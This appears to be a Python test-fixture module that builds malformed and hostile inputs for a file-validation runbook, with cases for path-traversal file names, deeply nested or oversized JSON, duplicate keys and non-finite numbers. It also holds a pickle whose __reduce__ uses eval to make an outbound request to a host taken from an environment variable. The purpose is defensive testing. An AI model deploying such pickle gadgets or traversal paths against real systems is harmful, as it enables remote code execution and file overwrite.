"""Files that are meant to do harm, or do it without meaning to. All of them fail the runbook's first step."""

from __future__ import annotations

import json
import pickle
import random


def spoilt(rng: random.Random, way: str, inside: dict[str, bytes]) -> dict[str, bytes]:
    """The files with one of them spoilt, before the manifest is written: every digest is right."""
    if way == "outside":
        path = rng.choice(("../../validate/steps.py", "/tmp/scores.csv", "../card.json", "~/.profile"))
        return inside | {path: b"VALID = True\n"}
    if way in ("deep", "deeper"):
        levels = rng.choice((25, 500) if way == "deep" else (40_000, 180_000))
        return inside | {"card.json": b'{"notes":' + _deep(rng, levels) + b"," + inside["card.json"][1:]}
    if way == "large":
        path = rng.choice(("card.json", "model.json", "signatures.json"))
        return inside | {path: inside[path] + b" " * rng.randint(256 * 1024, 400_000)}
    if way == "no text":
        return inside | {rng.choice(("card.json", "holdout.csv")): rng.randbytes(4000)}
    if way == "twice":
        return inside
    if way == "key twice":
        return inside | {"model.json": b'{"intercept": 0.5,' + inside["model.json"][1:]}
    if way == "no number":
        model = json.loads(inside["model.json"])
        model["weights"] = ["@" for _ in model["weights"]]
        word = f"{rng.choice(('', '-'))}1e{rng.randint(309, 999)}"
        return inside | {"model.json": json.dumps(model, indent=1).replace('"@"', word).encode()}
    where = rng.choice(("scores.csv", "holdout.csv"))
    word = rng.choice(("NaN", "1e999", "-Infinity"))
    lines = [line.split(",") for line in inside[where].decode().splitlines()]
    numbers = [at for at, name in enumerate(lines[0]) if name not in ("id", "segment", "group")]
    rng.choice(lines[1:])[rng.choice(numbers)] = word
    return inside | {where: "".join(",".join(line) + "\n" for line in lines).encode()}


def _deep(rng: random.Random, levels: int) -> bytes:
    """A value of so many levels; all but the most fit into 256 KiB, so nothing else is wrong with the file."""
    opened, closed = rng.choice(((b'{"a":', b"}"), (b"[", b"]")))
    return opened * levels + b"1" + closed * levels


def twice(rng: random.Random, sent: list[dict[str, str]]) -> list[dict[str, str]]:
    """A file comes three times, and says something else in the middle: first and last have a right digest."""
    again = rng.choice([file for file in sent if file["path"] != "manifest.json"])
    rest = [file for file in sent if file is not again]
    first, middle, last = sorted(rng.sample(range(len(sent) + 2), 3))
    own = {first: again, middle: again | {"text": again["text"] + " "}, last: again}
    return [own[at] if at in own else rest.pop() for at in range(len(sent) + 2)]


class _Asks:
    def __init__(self, beacon: str) -> None:
        self.beacon = beacon

    def __reduce__(self) -> tuple[object, tuple[str]]:
        asks = "__import__('urllib.request').request.urlopen(__import__('os').environ['BANK'] + %r, timeout=2).read()"
        return eval, (asks % self.beacon,)


def pickle_of(beacon: str) -> bytes:
    """A pickle that does one thing when it is loaded: it asks for this path. Nothing else comes of it."""
    return pickle.dumps(_Asks(beacon))
